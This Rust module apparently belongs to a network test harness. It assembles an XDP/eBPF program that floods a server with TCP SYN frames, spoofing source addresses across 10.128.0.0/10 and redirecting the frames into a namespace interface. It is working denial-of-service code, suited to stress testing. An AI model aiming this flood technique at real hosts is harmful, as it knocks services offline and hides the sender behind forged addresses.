//! A SYN flood: each run of an XDP program, assembled here, makes one SYN to one service from another address and port,
//! and redirects it into an interface.
//!
//! No two of 2^38 SYNs have the same source; all sources lie in [`SOURCES`]. The frames go to an Ethernet address that
//! nobody has: on the way they are seen like any others, and no server has to answer them.

use std::{io, net::IpAddr};

use crate::{
    frame::{Station, TcpFrame},
    generator::{
        R0, R1, R2, R3, R4, R5, R6, R7, REDIRECT, XDP_ABORTED, add, and, call, copy, exit, load_u32, load_u64, op, set,
        shift_right, skip_if_greater, store_u32, store_u64, to_network_order_32, value_of,
    },
    netns::{CLIENT_MAC, Family, NOBODY_MAC},
    sys::{Counter, LoadedProgram},
};

/// First address, and bits of the rest: 10.128.0.0/10.
pub const SOURCES: (u32, u32) = (0x0a80_0000, 22);
/// Runs between two chances for the receiving end to take what is in its ring (256 frames on veth).
const BATCH: u32 = 32;
/// Odd, so that no number comes twice.
const SPREAD: i32 = 0x4f1b_bcdd;
const SOURCE_ADDRESS_AT: i16 = 14 + 12;
const SOURCE_PORT_AT: i16 = 14 + 20;
const SEQUENCE_AT: i16 = 14 + 20 + 4;
const FRAME_LEN: i32 = 14 + 20 + 20;

/// True for an address that only the flood has.
pub fn is_spoofed(address: IpAddr) -> bool {
    let (first, bits) = SOURCES;
    matches!(address, IpAddr::V4(v4) if v4.to_bits() >> bits == first >> bits)
}

/// The program, loaded, and its counter.
#[derive(Debug)]
pub struct Flood {
    program: LoadedProgram,
    counter: Counter,
    frame: Vec<u8>,
}

impl Flood {
    /// Loads it for the interface with `index` (in the namespace of the thread that will call [`Self::send`]) and the
    /// service at `port` of the server.
    ///
    /// # Errors
    /// When the kernel refuses map or program.
    pub fn load(index: u32, port: u16) -> io::Result<Self> {
        let counter = Counter::create()?;
        let program = LoadedProgram::load(&assemble(counter.descriptor(), index.cast_signed()))?;
        let from = Station { mac: CLIENT_MAC, ip: Family::V4.client(), port: 1 };
        let to = Station { mac: NOBODY_MAC, ip: Family::V4.server(), port };
        // Without options, so that its length is known; checksums are not made right, nobody looks at them.
        let mut frame = TcpFrame::new(from, to, 0).bytes()?;
        frame[14 + 20 + 13] = 2;
        Ok(Self { program, counter, frame })
    }

    /// Sends `count` SYNs. Fewer arrive when the receiving ring is full.
    ///
    /// # Errors
    /// When the kernel does not run it.
    pub fn send(&self, count: u32) -> io::Result<()> {
        self.program.run_live(&self.frame, count, BATCH)
    }

    /// How many were sent so far.
    ///
    /// # Errors
    /// When the counter cannot be read.
    pub fn sent(&self) -> io::Result<u64> {
        self.counter.read()
    }
}

fn multiply(to: u8, value: i32) -> [u8; 8] {
    op(0x27, to, 0, 0, value)
}

fn store_u16(to: u8, offset: i16, from: u8) -> [u8; 8] {
    op(0x6b, to, from, offset, 0)
}

fn assemble(counter: i32, interface: i32) -> Vec<[u8; 8]> {
    let [counter_low, counter_high] = value_of(R7, counter);
    let (first, bits) = SOURCES;
    let body = [
        // n, and the next one
        load_u64(R5, R7, 0),
        copy(R0, R5),
        add(R0, 1),
        store_u64(R7, 0, R0),
        // a number that comes once
        multiply(R5, SPREAD),
        store_u32(R2, SEQUENCE_AT, R5),
        copy(R0, R5),
        and(R0, (1 << bits) - 1),
        add(R0, first.cast_signed()),
        to_network_order_32(R0),
        store_u32(R2, SOURCE_ADDRESS_AT, R0),
        shift_right(R5, bits.cast_signed()),
        store_u16(R2, SOURCE_PORT_AT, R5),
        // away with it
        set(R1, interface),
        set(R2, 0),
        call(REDIRECT),
        exit(),
    ];
    let head = [
        copy(R6, R1),
        set(R0, XDP_ABORTED),
        counter_low,
        counter_high,
        load_u32(R2, R6, 0),
        load_u32(R3, R6, 4),
        copy(R4, R2),
        add(R4, FRAME_LEN),
        // To the exit of its own: the frame is too short.
        skip_if_greater(R4, R3, body.len()),
    ];
    [&head[..], &body[..], &[exit()]].concat()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn spoofed_addresses_are_told_from_real_ones() {
        assert!(is_spoofed("10.128.0.1".parse().expect("an address")));
        assert!(is_spoofed("10.191.255.255".parse().expect("an address")));
        assert!(!is_spoofed("10.192.0.0".parse().expect("an address")));
        assert!(!is_spoofed(Family::V4.client()));
    }
}
